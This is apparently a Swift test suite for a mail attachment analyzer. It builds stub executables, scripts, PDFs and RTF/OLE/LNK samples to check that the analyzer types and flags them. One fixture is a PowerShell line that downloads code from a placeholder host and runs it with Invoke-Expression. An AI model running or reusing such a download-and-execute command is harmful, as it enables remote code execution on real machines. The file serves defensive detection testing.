import Foundation
import Testing
@testable import KagamiMail

/// Typing by content and the constructs no corpus file carries (self-extractors, scripts), built here
/// byte by byte from their specifications.
struct AttachmentTypingTests {
    static func analyze(_ bytes: [UInt8], name: String? = nil) -> AttachmentReport {
        AttachmentAnalyzer().analyze(bytes, name: name, declaredType: nil, passwords: [], location: "2")
    }

    /// A minimal PE32: MZ with e_lfanew 0x40, `PE\0\0`, a COFF header with one section and no optional
    /// header, the section's raw data at 0x200 for 0x200 bytes; the image ends at 0x400.
    static func pe(dll: Bool = false) -> [UInt8] {
        var b = [UInt8](repeating: 0, count: 0x400)
        b[0] = 0x4D; b[1] = 0x5A; b[0x3C] = 0x40
        b[0x40] = 0x50; b[0x41] = 0x45
        b[0x44] = 0x4C; b[0x45] = 0x01          // machine i386
        b[0x46] = 1                             // one section
        b[0x54] = 0                             // SizeOfOptionalHeader 0
        b[0x56] = 0x02; b[0x57] = dll ? 0x20 : 0x00 // characteristics: executable (+ DLL)
        let section = 0x40 + 24
        b[section + 16] = 0x00; b[section + 17] = 0x02 // SizeOfRawData 0x200
        b[section + 20] = 0x00; b[section + 21] = 0x02 // PointerToRawData 0x200
        return b
    }

    @Test func executableAndDLL() {
        let exe = Self.analyze(Self.pe(), name: "invoice.pdf")
        #expect(exe.contentType == "pe-exe" && exe.ids() == ["executable"])
        #expect(Self.analyze(Self.pe(dll: true)).contentType == "pe-dll")
    }

    @Test(.enabled(if: MailCorpus.available)) func selfExtractorOpensItsArchive() throws {
        let zip = try MailCorpus.bytes("office/archives/spamassassin/macro.zip")
        let sfx = Self.analyze(Self.pe() + zip, name: "report.docx.exe")
        #expect(sfx.ids().contains("sfx-executable"))
        #expect(sfx.evidence("sfx-executable").first?.contains("zip archive appended at offset 1024") == true)
        let inner = try #require(sfx.children.first)
        #expect(inner.contentType == "zip" && inner.ids().contains("password-archive"))
    }

    @Test func scriptsAreTypedByWhatTheyRun() {
        let vbs = Self.analyze(Array("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n".utf8))
        #expect(vbs.contentType == "script-wsh" && vbs.ids() == ["script-file"])
        let ps = Self.analyze(Array("$c = (New-Object Net.WebClient).DownloadString('http://x.invalid/a'); Invoke-Expression $c".utf8))
        #expect(ps.contentType == "script-powershell")
        let hta = Self.analyze(Array("<html><head><HTA:APPLICATION ID=\"x\"></head><script>1</script></html>".utf8))
        #expect(hta.contentType == "hta" && hta.ids().contains("script-file"))
        let prose = Self.analyze(Array("Please see the PowerShell training notes; we use WScript rarely.\n".utf8))
        #expect(prose.contentType == "text" && prose.findings.isEmpty)
    }

    @Test func magicNumbersWinOverNames() {
        #expect(Self.analyze(Array("%PDF-1.7\n1 0 obj\n".utf8), name: "a.docx").contentType == "pdf")
        #expect(Self.analyze([0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4], name: "a.pdf").contentType == "7z")
        #expect(Self.analyze(Array("Rar!\u{1A}\u{07}\u{00}".utf8)).contentType == "rar")
        #expect(Self.analyze(Array("{\\rtf1\\ansi hello}".utf8), name: "a.doc").contentType == "rtf")
        #expect(Self.analyze([0x00, 0x01, 0x02, 0xFF, 0x00]).contentType == "unknown")
        var iso = [UInt8](repeating: 0, count: 0x8800)
        iso.replaceSubrange(0x8001..<0x8006, with: Array("CD001".utf8))
        #expect(Self.analyze(iso).contentType == "iso9660")
        var vhd = [UInt8](repeating: 0, count: 1024)
        vhd.replaceSubrange(512..<520, with: Array("conectix".utf8))
        let image = Self.analyze(vhd)
        #expect(image.contentType == "vhd" && image.ids() == ["disk-image"])
    }

    @Test func pdfNameEscapesAreDecoded() {
        // `/J#61vaScript` is `/JavaScript`; `/#4A#53` is `/JS`.
        let pdf = Self.analyze(Array("%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >> >> endobj\n".utf8))
        #expect(pdf.ids() == ["pdf-javascript", "pdf-auto-action"])
        #expect(pdf.evidence("pdf-javascript").first?.contains("/JavaScript ×1, /JS ×1") == true)
    }

    @Test func rtfObjectDataWithWhitespaceAndBin() {
        // OLE1 object: version, format 2 (embedded), class "Package", empty topic/item, native data.
        func lps(_ s: String) -> [UInt8] { let b = Array(s.utf8) + [0]; return le32(b.count) + b }
        func le32(_ n: Int) -> [UInt8] { [UInt8(n & 0xFF), UInt8(n >> 8 & 0xFF), UInt8(n >> 16 & 0xFF), UInt8(n >> 24 & 0xFF)] }
        let lnkHeader: [UInt8] = [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46] + [UInt8](repeating: 0, count: 56)
        let package: [UInt8] = [2, 0] + Array("a.lnk".utf8) + [0] + Array("C:\\a.lnk".utf8) + [0] + [0, 0, 3, 0]
            + le32(9) + Array("C:\\t.lnk".utf8) + [0] + le32(lnkHeader.count) + lnkHeader
        let object = le32(0x0501) + le32(2) + lps("Package") + le32(0) + le32(0) + le32(package.count) + package
        let hex = object.map { String(format: "%02x", $0) }.joined()
        // Split the hex with spaces, newlines and a junk control word; the last 4 bytes travel as \bin.
        let head = String(hex.dropLast(8))
        let spaced = stride(from: 0, to: head.count, by: 7).map { i -> String in
            let s = head.index(head.startIndex, offsetBy: i), e = head.index(s, offsetBy: min(7, head.count - i))
            return String(head[s..<e])
        }.joined(separator: " \n")
        var rtf = Array("{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata \\junk12 ".utf8) + Array(spaced.utf8)
        rtf += Array("\\bin4 ".utf8) + Array(object.suffix(4)) + Array("}}}".utf8)
        let report = Self.analyze(rtf)
        #expect(report.ids() == ["rtf-object", "ole-package", "embedded-lnk", "lnk-file"], "\(report.dump())")
        #expect(report.evidence("ole-package").first?.hasPrefix("a.lnk (source C:\\a.lnk)") == true)
        #expect(report.children.first?.size == lnkHeader.count)
    }
}
